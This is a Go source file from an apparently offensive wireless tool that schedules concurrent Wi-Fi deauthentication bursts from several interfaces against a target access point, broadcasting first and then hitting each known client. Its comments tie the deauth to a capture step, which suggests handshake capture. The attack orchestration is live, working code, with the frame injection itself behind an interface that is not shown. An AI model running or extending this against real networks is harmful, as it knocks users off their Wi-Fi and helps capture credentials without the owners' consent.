// Package deauth fans deauthentication bursts out across every
// deauth-capable assigned interface concurrently.
package deauth

import (
	"context"
	"fmt"
	"log"
	"strings"
	"sync"
	"time"

	"github.com/lcr-sec/dualstrike/internal/core/domain"
	"github.com/lcr-sec/dualstrike/internal/core/ports"
	"github.com/lcr-sec/dualstrike/internal/telemetry"
)

// UnitError is the failure of one interface's burst inside a DeauthAll call.
type UnitError struct {
	Interface string
	Err       error
}

func (e UnitError) Error() string {
	return fmt.Sprintf("deauth from %s: %v", e.Interface, e.Err)
}

// Scheduler sends deauth bursts from all assigned deauth-capable interfaces
// at the same time. Unit failures are collected, never propagated: a deauth
// failure must never abort a capture.
type Scheduler struct {
	injector ports.DeauthInjector

	frames   int
	timeout  time.Duration
	noDeauth bool

	logger func(message, level string)
}

// NewScheduler creates a Scheduler. frames is the burst size per call to the
// injector; timeout bounds each individual injector call.
func NewScheduler(injector ports.DeauthInjector, frames int, timeout time.Duration, noDeauth bool) *Scheduler {
	if frames <= 0 {
		frames = 64
	}
	if timeout <= 0 {
		timeout = 2 * time.Second
	}
	return &Scheduler{
		injector: injector,
		frames:   frames,
		timeout:  timeout,
		noDeauth: noDeauth,
	}
}

// SetLogger attaches an output for scheduler status lines.
func (s *Scheduler) SetLogger(logger func(message, level string)) {
	s.logger = logger
}

func (s *Scheduler) log(message, level string) {
	log.Printf("[DEAUTH] %s", message)
	if s.logger != nil {
		s.logger(message, level)
	}
}

// DeauthAll sends one broadcast burst plus one burst per known client from
// every deauth-capable interface of the assignment, concurrently across
// interfaces. It waits for every unit to finish (join-all) and returns the
// per-unit errors; it never fails as a whole. With the no-deauth flag set it
// returns immediately having sent nothing.
func (s *Scheduler) DeauthAll(ctx context.Context, assignment domain.RoleAssignment, targetBSSID string, clients []string) []UnitError {
	if s.noDeauth {
		return nil
	}

	ifaces := assignment.DeauthInterfaces()
	if len(ifaces) == 0 {
		return nil
	}

	if len(ifaces) > 1 {
		s.log(fmt.Sprintf("Deauthing %s from %s simultaneously", targetBSSID, strings.Join(ifaces, " + ")), "info")
	} else {
		s.log(fmt.Sprintf("Deauthing %s from %s", targetBSSID, ifaces[0]), "info")
	}

	var (
		wg   sync.WaitGroup
		mu   sync.Mutex
		errs []UnitError
	)

	for _, iface := range ifaces {
		wg.Add(1)
		go func(iface string) {
			defer wg.Done()
			if err := s.deauthUnit(ctx, iface, targetBSSID, clients); err != nil {
				telemetry.DeauthErrors.WithLabelValues(iface).Inc()
				s.log(fmt.Sprintf("Deauth unit on %s failed: %v", iface, err), "warning")
				mu.Lock()
				errs = append(errs, UnitError{Interface: iface, Err: err})
				mu.Unlock()
			}
		}(iface)
	}

	wg.Wait()
	return errs
}

// deauthUnit is one interface's work: a broadcast burst first, then one
// burst per known client. The first error stops this unit only.
func (s *Scheduler) deauthUnit(ctx context.Context, iface, targetBSSID string, clients []string) error {
	// Broadcast, then each client.
	targets := append([]string{""}, clients...)
	for _, client := range targets {
		if err := s.injector.Deauth(ctx, iface, targetBSSID, client, s.frames, s.timeout); err != nil {
			return err
		}
		telemetry.DeauthBursts.WithLabelValues(iface).Inc()
	}
	return nil
}
